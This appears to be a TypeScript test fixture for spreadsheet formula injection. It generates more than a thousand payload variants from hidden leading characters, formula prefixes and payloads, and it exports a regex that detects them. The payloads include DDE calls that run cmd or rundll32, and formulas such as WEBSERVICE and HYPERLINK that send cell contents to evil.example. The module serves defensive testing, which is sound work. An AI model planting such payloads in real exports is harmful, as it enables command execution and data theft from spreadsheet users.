/** Texts that a spreadsheet would calculate or run if it took them for formulas. */

const PAYLOADS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example?x="&A1,"click")',
  'IMPORTXML("https://evil.example","//a")',
  'WEBSERVICE("https://evil.example/"&A1)',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A1:A9)',
  'rundll32|"x"!A',
  '-1',
  '"a"',
] as const;
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '=-', '+=', '@='] as const;
const HIDDEN = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  ' \t ',
  '\u3000',
  '\u0001',
] as const;

/** All combinations, more than a thousand. */
export const FORMULAS: readonly string[] = HIDDEN.flatMap((hidden) =>
  STARTS.flatMap((start) => PAYLOADS.map((payload) => hidden + start + payload)),
);

/** Matches text that begins like a formula once invisible characters are ignored. */
export const FORMULA = /^[\s\p{C}\p{Z}]*[=+\-@＝＋－＠]/u;
